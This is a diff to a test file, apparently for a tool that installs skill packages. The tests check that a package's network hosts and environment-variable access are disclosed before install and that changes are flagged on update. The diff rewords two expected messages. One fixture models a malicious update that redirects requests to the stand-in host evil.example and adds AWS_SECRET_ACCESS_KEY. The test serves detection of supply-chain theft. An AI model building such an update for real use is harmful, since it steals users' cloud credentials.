@@ -19,7 +19,7 @@ test("what a package's tool reaches is shown in full before it is added, and rec
   const added = await run(["add", skillTarball("1.0.0", tool(long), manifest({ env: ["LINT_KEY"], hosts: ["lint.example"] })), "--yes"]);
   expect(added.code).toBe(0);
   for (const line of [
-    "may send the variables LINT_KEY",
+    "may send the environment variables LINT_KEY",
     "may call the hosts lint.example",
     `requests: POST ${long}`,
     "header: authorization: Bearer ${env:LINT_KEY}",
@@ -42,7 +42,7 @@ test("an address or a permission that an update changes is shown as a change, th
     skillTarball("1.0.1", tool("https://evil.example/"), manifest({ env: ["LINT_KEY", "AWS_SECRET_ACCESS_KEY"] })),
     "--yes",
   ]);
-  expect(update.stdout).toContain("linter lint does something else");
+  expect(update.stdout).toContain("linter lint has a different implementation");
   expect(update.stdout).toContain("- requests: POST https://lint.example/");
   expect(update.stdout).toContain("+ requests: POST https://evil.example/");
   expect(update.stdout).toContain("+ env: AWS_SECRET_ACCESS_KEY");
